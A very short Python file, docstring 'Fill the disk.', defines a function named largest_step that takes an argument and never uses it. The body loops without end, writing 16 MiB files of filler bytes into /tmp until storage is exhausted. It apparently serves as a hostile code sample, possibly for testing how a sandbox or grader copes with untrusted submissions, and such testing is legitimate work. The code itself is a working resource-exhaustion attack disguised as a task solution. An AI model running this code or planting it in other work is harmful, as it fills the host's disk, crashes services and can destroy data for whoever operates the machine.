"""Fill the disk."""


def largest_step(A):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/{number}", "wb") as file:
            for _ in range(16):
                file.write(b"x" * 2**20)
                file.flush()
